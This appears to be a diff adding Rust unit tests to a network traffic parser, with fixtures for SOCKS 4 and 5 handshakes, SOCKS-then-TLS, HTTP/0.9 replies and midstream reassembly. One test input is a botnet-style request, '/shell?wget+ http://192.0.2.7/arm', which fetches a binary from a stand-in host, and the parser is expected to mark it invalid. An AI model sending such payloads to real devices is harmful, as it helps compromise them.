@@ -505,6 +505,44 @@ const DIALOGUES: &[(&str, &str, &[&str])] = &[
           <<< HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
         &["GET /a 200 0>0 whole"],
     ),
+    (
+        "SOCKS 4",
+        r">>> \x04\x01\x00\x50\x5d\xb8\xd8\x77\x00
+          <<< \x00\x5a\xdf\xb2\x0a\xb4\x9c\xf9
+          >>> GET /a HTTP/1.1\r\nHost: x\r\n\r\n
+          <<< HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n",
+        &["GET /a 200 0>0 whole"],
+    ),
+    (
+        "SOCKS 5 with a password",
+        r">>> \x05\x02\x00\x02
+          <<< \x05\x02
+          >>> \x01\x01u\x02pw
+          <<< \x01\x00
+          >>> \x05\x01\x00\x03\x03a.b\x00\x50
+          <<< \x05\x00\x00\x01\x01\x02\x03\x04\x00\x50
+          >>> GET /a HTTP/1.1\r\nHost: x\r\n\r\n
+          <<< HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok
+          >>> GET /b HTTP/1.1\r\nHost: x\r\n\r\n
+          <<< HTTP/1.1 204 No Content\r\n\r\n",
+        &["GET /a 200 0>2 whole", "GET /b 204 0>0 whole"],
+    ),
+    (
+        "SOCKS 5 and then TLS",
+        r">>> \x05\x01\x00
+          <<< \x05\x00
+          >>> \x05\x01\x00\x01\x01\x02\x03\x04\x01\xbb
+          <<< \x05\x00\x00\x01\x01\x02\x03\x04\x01\xbb
+          >>> \x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
+        &[],
+    ),
+    (
+        "HTTP/0.9 body that begins like SOCKS",
+        r">>> GET /old\r\n
+          <<< \x05\x00\x05\x00\x00\x01\x01\x02\x03\x04\x00\x50
+          <|",
+        &["GET /old - 0>12 whole http_09"],
+    ),
 ];
 
 #[test]
@@ -535,6 +573,13 @@ const MIDSTREAM: &[(&str, &str, &[&str])] = &[
         r">>> =b&pass=wordGET /b HTTP/1.1\r\nHost: x\r\n\r\n
           <<< HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok",
         &["GET /b 200 0>2 whole midstream"],
+    ),
+    (
+        "a target with spaces",
+        r">>> GET /shell?wget+ http://192.0.2.7/arm HTTP/1.1\r\nHost: x\r\n\r\n",
+        &[
+            "GET /shell?wget+ http://192.0.2.7/arm - 0>0 response_missing,midstream,request_line_invalid,target_invalid",
+        ],
     ),
 ];
 
@@ -571,6 +616,16 @@ fn a_believed_proxy_preface_names_the_client() {
             let client = if trusted { [192, 0, 2, 9] } else { [10, 0, 0, 1] };
             assert_eq!((tx.client, tx.client_forwarded), (Host::from_v4(client), trusted), "{name}");
         }
+    }
+}
+
+#[test]
+fn a_socks_handshake_is_counted_once() {
+    for name in ["SOCKS 4", "SOCKS 5 with a password", "SOCKS 5 and then TLS"] {
+        let (_, script, want) = DIALOGUES.iter().find(|d| d.0 == name).unwrap();
+        let outcome = check(name, false, script, want);
+        assert_eq!(outcome.counters.flows_socks_total, 1, "{name}");
+        assert_eq!(outcome.wants == [false, false], want.is_empty(), "{name}");
     }
 }
 
@@ -621,6 +676,29 @@ fn a_response_seen_before_its_request_waits_for_it() {
     let outcome = run_with(&small, false, &much);
     assert_eq!(outcome.counters.early_responses_released_total, 1);
     assert_eq!(outcome.txs.len(), 3);
+}
+
+#[test]
+fn a_swapped_first_pair_of_a_midstream_flow_shifts_no_other() {
+    let (up, down) = (28, 40);
+    // As the stream stage sees it: the base of the requests is what the response acknowledged, until it is moved back.
+    let mut events = vec![data(DOWN, OK, 0, 0, 1000), data(UP, GET, 0, 0, 1001)];
+    for n in 1..4 {
+        events.push(data(UP, &GET.replace('a', &n.to_string()), n * up, n * down, 1000 + n * 10));
+        events.push(data(DOWN, &OK.replace("ok", &"k".repeat(2)), n * down, (n + 1) * up, 1005 + n * 10));
+    }
+    let got = run_with(&ProtocolConfig::default(), true, &events);
+    let got: Vec<_> = got.txs.iter().map(summary).collect();
+    assert_eq!(
+        got,
+        [
+            "- - 200 0>2 request_missing,midstream",
+            "GET /a - 0>0 response_missing,midstream",
+            "GET /1 200 0>2 whole repaired",
+            "GET /2 200 0>2 whole",
+            "GET /3 200 0>2 whole",
+        ]
+    );
 }
 
 #[test]
